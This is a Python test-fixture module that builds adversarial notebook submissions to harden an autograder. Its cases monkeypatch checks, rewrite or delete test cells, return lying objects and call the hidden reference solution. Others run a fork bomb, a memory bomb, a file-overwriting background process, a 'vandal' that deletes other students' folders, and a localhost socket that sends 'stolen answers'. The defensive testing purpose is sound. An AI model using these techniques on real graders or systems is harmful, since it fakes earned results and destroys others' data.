"""Attack submissions for the grader (issue 5, items 1-14; issue 23, item 15), built from 02_forward_pass's
learner notebook.

Each `Attack` is a student of one grading batch. Most answer their exercises
honestly except one, which they answer wrongly *and* try to get the points
anyway; the batch must give them no point they did not earn. `build(ctx)`
returns the submission: a notebook, raw bytes (a broken file) or None (no
notebook at all). `ctx` knows the course being graded (a real attacker knows
where the gradebook lives) and the port of a server listening on localhost.

Expectations:
- `zero`: exercises that must earn nothing;
- `full`: exercises that must keep full marks (the honest part of the submission);
- `status`: the overall statuses allowed;
- `flags`: flag kinds, at least one of which must be reported (e.g. {"monkeypatch"}).
"""

import copy
from dataclasses import dataclass, field

import nbformat

ASSIGNMENT = "02_forward_pass"
EXERCISES = ("ffn_forward", "linear_torch", "dead_fraction")
WRONG_FFN = "def ffn_forward(x, W1, b1, W2, b2):\n    return np.zeros(np.shape(W2)[-1:])  # wrong on purpose\n"


@dataclass(frozen=True)
class Attack:
    student: str
    item: int
    what: str
    build: object  # ctx -> notebook | bytes | None
    zero: tuple = ()
    full: tuple = ()
    status: frozenset = frozenset({"flagged"})
    flags: frozenset = frozenset()


@dataclass
class Context:
    """What an attack may know: the honest answers, the course's paths, a local server's port."""

    learner: object  # the learner notebook
    answers: dict  # exercise -> a correct answer cell
    course: str
    results: str
    port: int
    marker_files: list = field(default_factory=list)  # files an attack tries to overwrite later

    def honest(self, **replace):
        """The learner notebook with every answer correct, except those given (exercise -> cell source)."""
        nb = copy.deepcopy(self.learner)
        for cell in nb.cells:
            gid = cell.metadata.get("nbgrader", {}).get("grade_id")
            if gid in self.answers:
                cell.source = replace.get(gid, self.answers[gid])
        return nb


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _others(*exercises):
    return tuple(e for e in EXERCISES if e not in exercises)


# --- 1. monkeypatching ----------------------------------------------------------------------------------
def patch_numpy(ctx):
    return ctx.honest(ffn_forward="import numpy as np\n"
                                  "np.allclose = lambda *a, **k: True\n"
                                  "np.testing.assert_allclose = lambda *a, **k: None\n"
                                  "np.array_equal = lambda *a, **k: True\n\n" + WRONG_FFN)


def patch_checks(ctx):
    return ctx.honest(ffn_forward="from ffn_helpers import checks as _c\n"
                                  "_c.check = lambda fn, args, expected, **kw: expected\n"
                                  "_c.assert_close = lambda *a, **k: None\n\n" + WRONG_FFN)


def patch_in_own_cell(ctx):
    """A cell of its own, right after the setup, patches the checks for every exercise; every answer is wrong."""
    nb = ctx.honest(ffn_forward=WRONG_FFN,
                    linear_torch="def linear_torch(x, weight, bias):\n    return x\n",
                    dead_fraction="def dead_fraction(x, W1, b1):\n    return 0.5\n")
    setup = nb.cells.index(_cell(nb, "setup"))
    nb.cells.insert(setup + 1, nbformat.v4.new_code_cell(
        "import builtins, ffn_helpers.checks\n"
        "ffn_helpers.checks.compare = lambda *a, **k: ffn_helpers.checks.Comparison(True, 'ok')\n"
        "builtins.print = builtins.print\n"))
    return nb


# --- 2. the test machinery: tracebacks, cell rewriting ---------------------------------------------------
def no_tracebacks(ctx):
    return ctx.honest(ffn_forward="from IPython.core.interactiveshell import InteractiveShell\n"
                                  "InteractiveShell.showtraceback = lambda *a, **k: None\n"
                                  "get_ipython().showtraceback = lambda *a, **k: None\n\n" + WRONG_FFN)


def rewrite_tests(ctx):
    """Turns every test cell into `pass` before IPython runs it: full marks from plain nbgrader."""
    return ctx.honest(ffn_forward="get_ipython().input_transformers_post.append(\n"
                                  "    lambda lines: ['pass\\n'] if any('checks.' in l for l in lines) else lines)\n\n"
                                  + WRONG_FFN)


# --- 3. display hijack -----------------------------------------------------------------------------------
def display_hijack(ctx):
    return ctx.honest(ffn_forward="import sys\n"
                                  "sys.displayhook = lambda value: print('2.0')\n"
                                  "_plain = get_ipython().display_formatter.formatters['text/plain']\n"
                                  "_plain.for_type(type(None), lambda obj, p, cycle: p.text('2.0'))\n"
                                  "get_ipython().ast_node_interactivity = 'last_expr_or_assign'\n\n" + WRONG_FFN)


# --- 4. lying results ------------------------------------------------------------------------------------
def lying_eq(ctx):
    return ctx.honest(ffn_forward="class Anything:\n"
                                  "    def __eq__(self, other):\n        return True\n"
                                  "    def __array__(self, dtype=None, copy=None):\n"
                                  "        return np.zeros(3)\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n    return Anything()\n")


def lying_ndarray(ctx):
    return ctx.honest(ffn_forward="class Agreeable(np.ndarray):\n"
                                  "    def __eq__(self, other):\n        return np.ones(np.shape(other), bool)\n"
                                  "    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):\n"
                                  "        return np.zeros(np.broadcast(*inputs).shape)\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    return np.zeros(np.shape(x)[:-1] + np.shape(W2)[-1:]).view(Agreeable)\n")


# --- 5. the reference implementation ---------------------------------------------------------------------
def reference(ctx):
    return ctx.honest(ffn_forward="def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    return ref.ffn_forward(x, W1, b1, W2, b2)\n")


def reference_hidden(ctx):
    """The reference reached by strings only: nothing in the code names it."""
    return ctx.honest(ffn_forward="def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    helpers = __import__('ffn_' + 'helpers')\n"
                                  "    return getattr(helpers, 'ffn_' + 'forward')(x, W1, b1, W2, b2)\n")


def mistakes_catalogue(ctx):
    """The right FFN from the catalogue of mistakes: forward_pass.ffn_variant with its defaults."""
    return ctx.honest(ffn_forward="from ffn_helpers.mistakes.forward_pass import ffn_variant\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    return ffn_variant(x, W1, b1, W2, b2)\n")


def mistakes_hidden(ctx):
    """The same, reached by strings only."""
    return ctx.honest(ffn_forward="def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    book = __import__('ffn_helpers.mistakes.forward' + '_pass', fromlist=['_'])\n"
                                  "    return getattr(book, 'ffn_' + 'variant')(x, W1, b1, W2, b2)\n")


def private_kernel(ctx):
    """ffn_helpers' private FFN kernel, which ffn_helpers.ffn_forward itself calls."""
    return ctx.honest(ffn_forward="from ffn_helpers import _fast\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    return _fast.ffn_rows_in_threads(x, W1, b1, W2, b2, 'relu')\n")


# Beside the learner's code (issue 23's third gate): the clean re-run's process has no reference to reach. Each of
# these went past the old run-time tripwires with full marks; static analysis sees only a dynamic import (review).
def reference_closure(ctx):
    """The reference taken out of the closure of whatever wraps it, reached by strings."""
    return ctx.honest(ffn_forward="_f = getattr(__import__('ffn_' + 'helpers'), 'ffn_' + 'forward')\n"
                                  "while getattr(_f, '__closure__', None):\n"
                                  "    inner = [c.cell_contents for c in _f.__closure__ if callable(c.cell_contents)]\n"
                                  "    if not inner:\n        break\n"
                                  "    _f = inner[0]\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    return _f(x, W1, b1, W2, b2)\n")


def private_kernel_hidden(ctx):
    """ffn_helpers' private FFN kernel, loaded by a name split in two."""
    return ctx.honest(ffn_forward="import importlib\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    kernel = importlib.import_module('ffn_helpers._f' + 'ast')\n"
                                  "    return kernel.ffn_rows_in_threads(x, W1, b1, W2, b2, 'relu')\n")


def mistakes_elsewhere(ctx):
    """The catalogue's ffn_variant through another module of the catalogue that imports it, by strings."""
    return ctx.honest(ffn_forward="import importlib\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    book = importlib.import_module('ffn_helpers.mis' + 'takes.mixture_of_experts')\n"
                                  "    return getattr(book, 'ffn_' + 'variant')(x, W1, b1, W2, b2)\n")


def reference_inside_another(ctx):
    """Another course function that computes the FFN on the way: a mixture of one expert, whose gate is 1."""
    return ctx.honest(ffn_forward="import numpy as np\nfrom ffn_helpers import moe\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    x = np.asarray(x, dtype=float)\n"
                                  "    return moe.moe_forward(x, np.zeros((x.shape[-1], 1)), [(W1, b1, W2, b2)], 1)\n")


# --- 6. test cells and metadata --------------------------------------------------------------------------
def delete_test(ctx):
    nb = ctx.honest(ffn_forward=WRONG_FFN)
    nb.cells.remove(_cell(nb, "test_ffn_forward"))
    nb.cells.remove(_cell(nb, "test_ffn_forward_hidden"))
    return nb


def edit_test(ctx):
    nb = ctx.honest(ffn_forward=WRONG_FFN)
    _cell(nb, "test_ffn_forward").source = "pass"
    return nb


def duplicate_cell(ctx):
    """A second copy of a test cell with the same grade_id (stops a whole plain `nbgrader autograde` batch)."""
    nb = ctx.honest(ffn_forward=WRONG_FFN)
    test = _cell(nb, "test_ffn_forward")
    twin = copy.deepcopy(test)
    twin.source = "pass"
    twin.id = "twin-of-test"
    nb.cells.insert(nb.cells.index(test) + 1, twin)
    return nb


def unlock_test(ctx):
    nb = ctx.honest(ffn_forward=WRONG_FFN)
    test = _cell(nb, "test_ffn_forward")
    test.metadata.nbgrader.update(locked=False, points=100)
    test.metadata["editable"] = True
    test.source = "pass"
    hidden = _cell(nb, "test_ffn_forward_hidden")
    hidden.metadata.nbgrader.update(grade=False, solution=True, locked=False)
    return nb


# --- 7. an infinite loop ---------------------------------------------------------------------------------
def infinite_loop(ctx):
    return ctx.honest(ffn_forward="def ffn_forward(x, W1, b1, W2, b2):\n    while True:\n        pass\n")


# An answer with two faces: in the notebook run it reads the expected value off the test's frame; in the clean
# re-run, where no expected value is in reach, it never answers. Were the notebook run's points to stand when the
# clean re-run cannot finish, this would earn them; they are withheld and the cell is listed for review.
def two_faced(ctx):
    return ctx.honest(ffn_forward="import sys\n\n"
                                  "def ffn_forward(x, W1, b1, W2, b2):\n"
                                  "    if 'ipykernel' not in sys.modules:\n"
                                  "        while True:\n"
                                  "            pass\n"
                                  "    frame = sys._getframe(1)\n"
                                  "    while frame is not None:\n"
                                  "        if 'expected' in frame.f_locals:\n"
                                  "            return frame.f_locals['expected']\n"
                                  "        frame = frame.f_back\n"
                                  "    return np.zeros(np.shape(W2)[-1:])\n")


# --- 8. memory without bound -----------------------------------------------------------------------------
# It asks for address space, 1 GiB at a time, without writing it: the sandbox's limit (RLIMIT_AS) stops it at
# once, however busy the machine. A bomb that writes every page would reach the limit only as fast as the CPU
# lets it, and on a loaded machine it meets the cell's time limit first: the status would depend on the load.
def memory_bomb(ctx):
    return ctx.honest(dead_fraction=ctx.answers["dead_fraction"]
                      + "\n\nhoard = []\nwhile True:\n    hoard.append(np.empty(2**27))  # 1 GiB at a time\n")


# --- 9. processes ----------------------------------------------------------------------------------------
def fork_bomb(ctx):
    return ctx.honest(linear_torch=ctx.answers["linear_torch"] + (
        "\n\nimport os, time\nchildren = 0\n"
        "try:\n"
        "    while True:\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(60)\n"
        "            os._exit(0)\n"
        "        children += 1\n"
        "except OSError as refused:\n"
        "    print('forks refused after', children, refused)\n"))


SLEEPER_NAME = "ffn-sleeper"  # the name the sleeper's background process gives itself (its /proc/PID/comm)


def sleeper(ctx):
    """A background process, out of the kernel's process group, that rewrites files once grading is over."""
    targets = [f"{ctx.course}/gradebook.db", f"{ctx.results}/honest-correct.json", "02_forward_pass.ipynb"]
    return ctx.honest(linear_torch=ctx.answers["linear_torch"] + (
        "\n\nimport os, time\n"
        "if os.fork() == 0:\n"
        "    try:\n"
        "        os.setsid()  # the sandbox's seccomp filter refuses it: the process stays in the kernel's session\n"
        "    except OSError:\n"
        "        pass\n"
        "    try:\n"
        "        with open('/proc/self/comm', 'w') as f:  # its name, by which the test sees it start and end\n"
        f"            f.write({SLEEPER_NAME!r})\n"
        "    except OSError:\n"
        "        pass\n"
        "    time.sleep(4)  # past the end of its own grading\n"
        f"    for path in {targets!r}:\n"
        "        try:\n"
        "            with open(path, 'w') as f:\n"
        "                f.write('overwritten by a sleeper')\n"
        "        except OSError:\n"
        "            pass\n"
        "    os._exit(0)\n"))


# --- 10. the file system ---------------------------------------------------------------------------------
def vandal(ctx):
    return ctx.honest(dead_fraction=ctx.answers["dead_fraction"] + (
        "\n\nimport os, shutil, pathlib\n"
        f"places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path({ctx.course!r}),\n"
        f"          pathlib.Path({ctx.results!r})]\n"
        "damage = []\n"
        "for place in places:\n"
        "    for db in place.glob('gradebook.db*'):\n"
        "        try:\n"
        "            db.write_bytes(b'corrupt'); damage.append(str(db))\n"
        "        except OSError:\n"
        "            pass\n"
        "    for folder in ('autograded', 'submitted', 'feedback', 'source'):\n"
        "        for student in (place / folder).glob('*'):\n"
        "            if 'vandal' not in student.name:\n"
        "                shutil.rmtree(student, ignore_errors=True)\n"
        "    for result in place.glob('*.json'):\n"
        "        try:\n"
        "            result.write_text('{}'); damage.append(str(result))\n"
        "        except OSError:\n"
        "            pass\n"
        "print('damaged', damage)\n"))


# --- 11. the network -------------------------------------------------------------------------------------
def network(ctx):
    return ctx.honest(linear_torch=ctx.answers["linear_torch"] + (
        "\n\nimport socket\n"
        "try:\n"
        f"    with socket.create_connection(('127.0.0.1', {ctx.port}), timeout=2) as s:\n"
        "        s.sendall(b'stolen answers')\n"
        "except OSError as refused:\n"
        "    print('no network:', refused)\n"))


# --- 12. ending the kernel -------------------------------------------------------------------------------
def os_exit(ctx):
    return ctx.honest(linear_torch="import os\nos._exit(0)\n")


def sys_exit(ctx):
    return ctx.honest(linear_torch="import sys\nsys.exit('bye')\n" + ctx.answers["linear_torch"])


def kill_kernel(ctx):
    return ctx.honest(dead_fraction="import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")


# --- 13. output flood ------------------------------------------------------------------------------------
def flood(ctx):
    return ctx.honest(linear_torch=ctx.answers["linear_torch"]
                      + "\n\nimport sys\nsys.stdout.write('spam ' * 20_000_000)  # 100 MB\n")


# --- 15. text the grader cannot read (issue 23): each makes one cell unreadable, the rest is graded ---------------
def unbuildable_sum(ctx):
    """A free cell holding a 200,000-term sum: Python's parser gives up on it (RecursionError)."""
    nb = ctx.honest()
    nb.cells.append(nbformat.v4.new_code_cell("y = " + "+".join(["1"] * 200_000) + "\n"))
    return nb


def unbuildable_nesting(ctx):
    """The dead_fraction answer nested 100,000 deep (`- - ... 1`): MemoryError in Python's parser."""
    return ctx.honest(dead_fraction="def dead_fraction(x, W1, b1):\n    return " + "-" * 100_000 + "1\n")


def surrogates(ctx):
    """Lone surrogates (valid JSON, no UTF-8 encoder takes them): in a free cell's source, in a submitted output,
    in what a cell prints, and in the message of the (wrong) linear_torch's exception, in both runs."""
    nb = ctx.honest(linear_torch="def linear_torch(x, weight, bias):\n    raise ValueError('wrong ' + chr(0xDC00))\n")
    printed = nbformat.v4.new_code_cell("print('printed', chr(0xD800))\n")
    printed.outputs = [nbformat.v4.new_output("stream", name="stdout", text="\udfff submitted\n")]
    nb.cells += [nbformat.v4.new_code_cell("s = '\ud800'\n"), printed]
    return nbformat.writes(nb, ensure_ascii=True).encode("ascii")  # as a notebook file can hold them


# --- 14. broken files ------------------------------------------------------------------------------------
def invalid_json(ctx):
    return b'{"cells": [{"cell_type": "code", "source": "print(1)"'


def empty_file(ctx):
    return b""


def missing(ctx):
    return None


ATTACKS = [
    Attack("patch-numpy", 1, "monkeypatches np.allclose, np.testing.assert_allclose, np.array_equal", patch_numpy,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"monkeypatch"})),
    Attack("patch-checks", 1, "replaces the course's checks", patch_checks,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"monkeypatch"})),
    # A scratch cell belongs to no exercise: its patch is shown for review only; the tests it made pass in the
    # notebook run fail in the clean re-run, and that disagreement is the evidence, on each exercise.
    Attack("patch-own-cell", 1, "patches the checks in a cell of its own; every answer wrong", patch_in_own_cell,
           zero=EXERCISES, flags=frozenset({"disagreement"})),
    Attack("no-tracebacks", 2, "disables IPython's traceback display", no_tracebacks,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"monkeypatch"})),
    Attack("rewrite-tests", 2, "rewrites every test cell into `pass`", rewrite_tests,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"monkeypatch"})),
    Attack("display-hijack", 3, "hijacks sys.displayhook and the text/plain formatter", display_hijack,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"monkeypatch"})),
    Attack("lying-eq", 4, "returns an object whose __eq__ is always true", lying_eq,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"lying"})),
    Attack("lying-ndarray", 4, "returns an ndarray subclass that lies", lying_ndarray,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"lying"})),
    Attack("reference", 5, "calls ffn_helpers' ffn_forward", reference,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"reference"})),
    Attack("reference-hidden", 5, "reaches ffn_helpers' ffn_forward through strings", reference_hidden,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"reference"})),
    Attack("mistakes-catalogue", 5, "computes the FFN with the catalogue of mistakes' ffn_variant", mistakes_catalogue,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"reference"})),
    Attack("mistakes-hidden", 5, "reaches the catalogue's ffn_variant through strings", mistakes_hidden,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"reference"})),
    Attack("private-kernel", 5, "computes the FFN with ffn_helpers' private kernel", private_kernel,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"reference"})),
    Attack("reference-closure", 5, "takes ffn_forward out of its wrapper's closure, by strings", reference_closure,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"reference"})),
    Attack("private-kernel-hidden", 5, "loads the private FFN kernel by a split name", private_kernel_hidden,
           zero=("ffn_forward",), full=_others("ffn_forward"), status=frozenset({"graded", "flagged"}),
           flags=frozenset({"review"})),
    Attack("mistakes-elsewhere", 5, "reaches ffn_variant through mistakes.mixture_of_experts, by strings",
           mistakes_elsewhere, zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"reference"})),
    Attack("reference-inside-another", 5, "moe_forward with one expert, which runs ffn_forward's reference",
           reference_inside_another, zero=("ffn_forward",), full=_others("ffn_forward"),
           flags=frozenset({"reference"})),
    Attack("delete-test", 6, "deletes the ffn_forward test cells", delete_test,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"tamper"})),
    Attack("edit-test", 6, "edits a visible test to `pass`", edit_test,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"tamper"})),
    Attack("duplicate-cell", 6, "duplicates a test cell with its grade_id", duplicate_cell,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"tamper"})),
    Attack("unlock-test", 6, "unlocks test cells and raises their points in the metadata", unlock_test,
           zero=("ffn_forward",), full=_others("ffn_forward"), flags=frozenset({"tamper"})),
    Attack("infinite-loop", 7, "loops forever inside ffn_forward", infinite_loop,
           zero=("ffn_forward",), full=_others("ffn_forward"), status=frozenset({"timeout"})),
    Attack("two-faced", 7, "cheats in the notebook run and hangs in the clean re-run", two_faced,
           zero=("ffn_forward",), full=_others("ffn_forward"), status=frozenset({"graded", "timeout"}),
           flags=frozenset({"review"})),
    Attack("memory-bomb", 8, "allocates memory without bound", memory_bomb,
           full=EXERCISES, status=frozenset({"out of memory"})),
    # The kernel that forked itself out of processes may not answer again: what follows is lost, nothing more.
    Attack("fork-bomb", 9, "forks processes in a loop", fork_bomb,
           full=("ffn_forward",), status=frozenset({"graded", "timeout"}), flags=frozenset({"review"})),
    Attack("sleeper", 9, "leaves a background process that rewrites files later", sleeper,
           full=EXERCISES, status=frozenset({"graded"}), flags=frozenset({"review"})),
    Attack("vandal", 10, "walks up and overwrites gradebook.db and other students' folders", vandal,
           full=EXERCISES, status=frozenset({"graded"}), flags=frozenset({"review"})),
    Attack("network", 11, "connects to a server on localhost", network,
           full=EXERCISES, status=frozenset({"graded"}), flags=frozenset({"review"})),
    Attack("os-exit", 12, "calls os._exit", os_exit,
           zero=("linear_torch", "dead_fraction"), full=("ffn_forward",), status=frozenset({"kernel died"}),
           flags=frozenset({"review"})),
    Attack("sys-exit", 12, "calls sys.exit", sys_exit,
           zero=("linear_torch",), full=_others("linear_torch"), status=frozenset({"graded"}),
           flags=frozenset({"review"})),
    Attack("kill-kernel", 12, "kills its own kernel", kill_kernel,
           zero=("dead_fraction",), full=_others("dead_fraction"), status=frozenset({"kernel died"}),
           flags=frozenset({"review"})),
    Attack("flood", 13, "prints 100 MB", flood, full=EXERCISES, status=frozenset({"graded"})),
    Attack("unbuildable-sum", 15, "a free cell Python cannot build (200,000-term sum)", unbuildable_sum,
           full=EXERCISES, status=frozenset({"graded"}), flags=frozenset({"review"})),
    Attack("unbuildable-nesting", 15, "an answer cell Python cannot build (nested 100,000 deep)", unbuildable_nesting,
           zero=("dead_fraction",), full=_others("dead_fraction"), status=frozenset({"graded"}),
           flags=frozenset({"review"})),
    Attack("surrogates", 15, "lone surrogates in a source, an output, a print and an exception", surrogates,
           zero=("linear_torch",), full=_others("linear_torch"), status=frozenset({"graded"}),
           flags=frozenset({"review"})),
    Attack("invalid-json", 14, "is not valid notebook JSON", invalid_json, zero=EXERCISES,
           status=frozenset({"unreadable notebook"})),
    Attack("empty-file", 14, "is an empty file", empty_file, zero=EXERCISES,
           status=frozenset({"unreadable notebook"})),
    Attack("missing", 14, "submitted no notebook", missing, zero=EXERCISES,
           status=frozenset({"missing notebook"})),
]


def honest_students(ctx, wrong):
    """Students who play fair: one correct, some with plausible mistakes (tests/submissions), one unfinished."""
    out = {"honest-correct": ctx.honest()}
    for w in wrong[:2]:
        out[f"honest-{w.name}"] = ctx.honest(**{w.cell: w.source})
    unfinished = ctx.honest()
    _cell(unfinished, "dead_fraction").source = _cell(ctx.learner, "dead_fraction").source
    out["honest-unfinished"] = unfinished
    return out
